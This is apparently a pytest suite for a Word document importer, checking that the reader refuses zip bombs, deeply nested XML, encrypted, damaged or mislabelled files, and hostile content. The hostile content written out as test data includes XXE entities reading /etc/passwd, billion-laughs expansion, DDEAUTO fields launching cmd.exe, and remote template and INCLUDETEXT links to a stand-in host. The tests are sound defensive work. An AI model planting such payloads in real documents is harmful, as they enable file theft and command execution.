"""Files that mean harm or are no papers: refused with the reason, within the bounds of the reader."""

from __future__ import annotations

import io
import tracemalloc
import zipfile

import pytest

from documents.importing import archive
from documents.importing.decode import MAX_BYTES
from documents.importing.files import read_file
from documents.importing.findings import Unreadable
from documents.importing.text import read_text
from tests.fixtures.files.word import of_paragraphs, paragraph, repacked, run, with_xml

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"'
    ' Target="{target}" TargetMode="External"/></Relationships>'
)
BODY = "<w:body><w:p><w:r><w:t>{inside}</w:t></w:r></w:p></w:body>"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def refusal(data: bytes, filename: str = "du-thao.docx") -> str:
    with pytest.raises(Unreadable) as refused:
        read_file(data, filename=filename)
    return refused.value.code


def linked(kind: str, target: str) -> bytes:
    return repacked(
        of_paragraphs("Một"),
        {"word/_rels/settings.xml.rels": RELATION.format(kind=kind, target=target)},
    )


def a_document(xml: str) -> bytes:
    return with_xml("", parts={"word/document.xml": xml})


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    data = with_xml(
        paragraph("Một"), parts={f"word/media/{n}.xml": "0" * 30_000_000 for n in range(7)}
    )
    tracemalloc.start()
    assert refusal(data) == "zip_bomb"
    assert tracemalloc.get_traced_memory()[1] < 20_000_000
    tracemalloc.stop()


def test_a_part_that_is_larger_than_it_says_is_cut_off():
    data = bytearray(a_document(f"<w:document {W}>{' ' * (archive.MAX_PART + 10)}</w:document>"))
    for mark, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = data.rindex(b"word/document.xml") if mark == b"PK\x01\x02" else None
        at = data.rindex(mark, 0, start) if start else data.rindex(mark)
        data[at + offset : at + offset + 4] = (1000).to_bytes(4, "little")
    assert refusal(bytes(data)) in {"zip_bomb", "damaged"}


def test_a_part_of_the_document_larger_than_the_bound_is_refused_within_the_bound():
    data = a_document(
        f"<w:document {W}><w:body>{'<w:p/>' * 10}{' ' * archive.MAX_PART}</w:body></w:document>"
    )
    assert len(data) < 100_000
    assert refusal(data) == "zip_bomb"


def test_more_elements_than_a_paper_has_are_refused(monkeypatch):
    monkeypatch.setattr(archive, "MAX_ELEMENTS", 5_000)
    many = "<w:r/>" * (archive.MAX_ELEMENTS + 1)
    inside = f"<w:body><w:p>{many}</w:p></w:body>"
    assert refusal(a_document(f"<w:document {W}>{inside}</w:document>")) == "zip_bomb"


def test_more_parts_than_a_paper_has_are_refused():
    parts = {f"word/media/{number}.png": "" for number in range(archive.MAX_PARTS)}
    assert refusal(with_xml(paragraph("Một"), parts=parts)) == "zip_bomb"


def test_elements_nested_without_end_are_refused():
    deep = "<w:ins>" * 50_000 + "</w:ins>" * 50_000
    xml = f"<w:document {W}><w:body><w:p>{deep}</w:p></w:body></w:document>"
    assert refusal(a_document(xml)) == "xml_too_deep"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;">]>',
        '<!DOCTYPE w SYSTEM "http://127.0.0.1:9/w.dtd">',
    ],
    ids=["file", "laughs", "fetched"],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_and_document_types_are_refused_in_any_encoding(declared, encoding):
    xml = f'<?xml version="1.0" encoding="{encoding}"?>{declared}<w:document {W}>{BODY.format(inside="1")}</w:document>'
    assert (
        refusal(with_xml("", parts={"word/document.xml": xml.encode(encoding)})) == "xml_entities"
    )


def test_macros_are_refused_under_any_name():
    with_code = repacked(of_paragraphs("Một"), {"word/vbaProject.bin": b"\x00"})
    assert refusal(with_code) == "macros"
    assert refusal(with_code, "du-thao.docm") == "macros"
    assert refusal(of_paragraphs("Một"), "du-thao.docm") == "macros"
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    assert refusal(repacked(of_paragraphs("Một"), {"[Content_Types].xml": types})) == "macros"


@pytest.mark.parametrize(
    "field",
    [
        '<w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r>',
        "<w:r><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DE cmd a</w:instrText></w:r>",
        "<w:r><w:rPr><w:vanish/></w:rPr><w:instrText>DDE cmd a</w:instrText></w:r>",
        "<w:del><w:r><w:delInstrText>DDEAUTO cmd a</w:delInstrText></w:r></w:del>",
        '<w:fldSimple w:instr=" DDEAUTO cmd a "/>',
        "<w:r><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='end'/><w:instrText>dde cmd a</w:instrText></w:r>",
    ],
)
def test_a_field_that_starts_a_program_is_refused_however_it_is_written(field):
    assert refusal(with_xml(paragraph("Một", field))) == "macros"


@pytest.mark.parametrize(
    "said",
    [
        'INCLUDETEXT "https://x.example/a.docx"',
        "INCLUDETEXT \\\\\\\\x.example\\\\a.docx",
        'INCLUDEPICTURE "\\\\\\\\x.example\\\\a.png" \\d',
        'LINK Excel.Sheet.8 "http://x.example/a.xls"',
    ],
)
def test_a_field_that_fetches_text_or_logs_on_outside_is_refused(said):
    field = f"<w:r><w:instrText> {said} </w:instrText></w:r>"
    assert refusal(with_xml(paragraph("Một", field))) == "external"


@pytest.mark.parametrize(
    "said",
    [
        "PAGE", 'HYPERLINK "https://x.example/dde"', 'INCLUDETEXT "C:\\\\an\\\\a.docx"',
        'INCLUDEPICTURE "http://x.example/a.png" \\* MERGEFORMATINET',
    ],
)  # fmt: skip
def test_a_field_that_waits_for_a_person_or_draws_is_left_out(said):
    field = f"<w:r><w:instrText> {said} </w:instrText></w:r>"
    assert read_file(with_xml(paragraph("Một", field)), filename="a.docx").text == "Một\n"


@pytest.fixture
def pieces(monkeypatch) -> list[int]:
    """How many bytes were given to the parser each time."""
    given: list[int] = []
    read = archive._Bounded.read

    def counted(self, size: int = -1) -> bytes:
        data = read(self, size)
        given.append(len(data))
        return data

    monkeypatch.setattr(archive._Bounded, "read", counted)
    return given


def test_one_tag_of_twenty_megabytes_is_given_to_the_parser_in_few_pieces(pieces):
    """It begins an open tag anew with each piece: small ones would take minutes."""
    long = "x" * 20_000_000
    data = a_document(f'<w:document {W}><w:body><w:p w:x="{long}"/></w:body></w:document>')
    assert refusal(data) == "empty"
    assert len(pieces) <= 20_000_000 // archive.PIECE + 20


def test_empty_elements_are_counted_with_the_piece_they_came_in(pieces, monkeypatch):
    monkeypatch.setattr(archive, "MAX_ELEMENTS", 20_000)
    data = a_document(f"<w:document {W}><w:body>{'<w:p/>' * 2_000_000}</w:body></w:document>")
    assert refusal(data) == "zip_bomb"
    assert sum(size == archive.PIECE for size in pieces) == 1


def test_parts_named_with_backslashes_are_parts_too():
    """Some tools of Windows pack so; Word opens it."""
    packed = zipfile.ZipFile(io.BytesIO(of_paragraphs("Một")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as again:
        for name in packed.namelist():
            entry = zipfile.ZipInfo()
            entry.filename = name.replace("/", "\\")
            again.writestr(entry, packed.read(name))
    assert read_file(out.getvalue(), filename="a.docx").text == "Một\n"
    with zipfile.ZipFile(out, "a") as again:
        again.writestr("word/vbaProject.bin", b"\x00")
    assert refusal(out.getvalue()) == "macros"


@pytest.mark.parametrize(
    "target",
    [
        "http://x.example/t.dotm",
        "https://x.example/t.dotm",
        "\\\\x.example\\t.dotm",
        "file://x.example/t.dotm",
    ],
)
def test_a_template_that_word_would_fetch_is_refused(target):
    assert refusal(linked("attachedTemplate", target)) == "external"
    assert refusal(linked("oleObject", target)) == "external"


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://x.example/anh.png"),
        ("attachedTemplate", "file:///C:\\Users\\an\\Normal.dotm"),
        ("attachedTemplate", "Normal.dotm"),
    ],
)
def test_other_links_are_named_and_not_followed(kind, target):
    plain = read_file(linked(kind, target), filename="a.docx")
    assert [(one.code, one.values["count"]) for one in plain.findings] == [("links_left_out", 1)]
    assert read_file(linked("hyperlink", "https://x.example/"), filename="a.docx").findings == ()


def test_a_locked_file_and_an_old_one_are_told_apart():
    assert refusal(OLE + "EncryptedPackage".encode("utf-16-le")) == "encrypted"
    assert refusal(OLE, "cu.doc") == "word_old"
    assert refusal(OLE, "cu.docx") == "word_old"


def test_an_encrypted_part_is_refused():
    data = bytearray(of_paragraphs("Một"))
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    assert refusal(bytes(data)) == "encrypted"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"{\\rtf1 x}", "rich_text"),
        (b"\x89PNG\r\n\x1a\n" + bytes(20), "picture"),
        (b"\xff\xd8\xff\xe0" + bytes(20), "picture"),
        (b"II*\x00" + bytes(20), "picture"),
    ],
)
def test_what_is_no_text_is_named(data, code):
    assert refusal(data, "x.docx") == code


def test_a_name_that_claims_another_sort_of_file_is_refused_with_what_it_is():
    with pytest.raises(Unreadable) as refused:
        read_file("QUYẾT ĐỊNH".encode(), filename="du-thao.docx")
    assert refused.value.code == "wrong_extension"
    assert refused.value.values["found"] == ".txt"
    assert refusal(of_paragraphs("Một"), "du-thao.pdf") == "wrong_extension"
    assert refusal(of_paragraphs("Một"), "du-thao.doc") == "wrong_extension"
    assert refusal(b"%PDF-1.7\n", "du-thao.docx") == "wrong_extension"


def test_a_packed_file_that_is_no_word_document_is_refused():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as made:
        made.writestr("xl/workbook.xml", "<x/>")
    assert refusal(file.getvalue()) == "not_word"


@pytest.mark.parametrize("kept", [30, 400, 2_000, 10_000])
def test_a_file_that_was_cut_off_is_refused(kept):
    assert refusal(of_paragraphs("Một")[:kept]) == "damaged"


def test_damage_anywhere_in_the_file_is_a_refusal_or_a_reading_never_an_error():
    data = with_xml("".join(paragraph(f"Đoạn {number}") for number in range(200)))
    for place in range(0, len(data), 97):
        broken = bytearray(data)
        broken[place] ^= 0xFF
        try:
            read_file(bytes(broken), filename="a.docx")
        except Unreadable:
            continue


def test_xml_that_is_not_xml_or_has_no_body_is_damaged():
    assert refusal(a_document("<w:document")) == "damaged"
    assert refusal(a_document(f"<w:document {W}/>")) == "damaged"
    assert refusal(a_document('<?xml version="1.0" encoding="klingon"?><x/>')) == "damaged"


def test_a_word_file_without_words_is_empty():
    assert refusal(of_paragraphs("", " ")) == "empty"


def test_a_table_of_ten_megabytes_is_refused_for_its_size():
    cells = "".join(f"<w:tc>{paragraph('chữ ' * 60)}</w:tc>" for _ in range(5))
    data = with_xml(f"<w:tbl>{f'<w:tr>{cells}</w:tr>' * 8_000}</w:tbl>")
    assert refusal(data) == "too_large"


def test_a_file_over_ten_megabytes_is_refused_unopened():
    assert refusal(b"PK\x03\x04" + bytes(archive.MAX_FILE)) == "file_too_large"


def test_text_that_looks_like_code_or_hides_its_direction_is_only_text():
    code = "&lt;script&gt;alert(1)&lt;/script&gt; {{ 7*7 }} {% load x %}"
    plain = read_file(with_xml(paragraph(code) + paragraph("a\u202ed\u200bc")), filename="a.docx")
    reading = read_text("QUYẾT ĐỊNH\n\n" + plain.text, kind="decision", drafting=True)
    assert "<script>alert(1)</script> {{ 7*7 }} {% load x %}" in reading.text
    assert "adc" in reading.text
    assert "invisible_removed" in [one.code for one in reading.findings]


def test_the_bound_on_text_is_the_one_of_pasted_text():
    data = with_xml(paragraph(*[run("chữ ")] * 10) * 1)
    assert len(read_file(data, filename="a.docx").text.encode()) < MAX_BYTES
